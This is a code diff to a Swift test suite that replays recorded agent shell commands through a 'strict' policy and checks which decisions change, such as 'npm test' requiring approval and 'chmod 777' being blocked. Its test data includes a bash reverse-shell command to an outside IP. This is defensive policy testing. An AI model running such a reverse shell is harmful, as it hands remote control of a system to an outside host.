@@ -23,8 +23,8 @@ struct PolicyReplayTests {
         let rec = try RunRecorder(directory: LogDirectory(path: dir))
         try rec.start(RunStart(policy: def.source, agent: "a", command: ["sh"], cwd: dir, isolation: []))
         let commands = [
-            "ls -la", "git status", "pip install requests", "curl -o data.json https://example.com/data.json",
-            "chmod 777 /srv/app", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
+            "ls -la", "git status", "npm test", "pip install requests", "chmod 777 /srv/app",
+            "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
         ]
         for (i, c) in commands.enumerated() {
             let a = Action(id: "a-\(i)", payload: .shell(c))
@@ -34,10 +34,11 @@ struct PolicyReplayTests {
         #expect(input.actions.count == commands.count)
         let result = Replay.run(input.actions, policy: try loadShipped("strict"))
         let changed = Dictionary(uniqueKeysWithValues: result.changed.map { ($0.recorded.command, $0.new.decision) })
-        #expect(changed["pip install requests"] == .requiresApproval)
-        #expect(changed["curl -o data.json https://example.com/data.json"] == .requiresApproval)
+        // strict lists npm under commands.require_approval; chmod 777 under commands.block.
+        #expect(changed["npm test"] == .requiresApproval)
         #expect(changed["chmod 777 /srv/app"] == .block)
-        for unchanged in ["ls -la", "git status", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"] {
+        // An install asks under both (gate-classes.md A4): no change.
+        for unchanged in ["ls -la", "git status", "pip install requests", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"] {
             #expect(changed[unchanged] == nil, "\(unchanged) should not change")
         }
         // The same replay through gate.log gives the same changes.
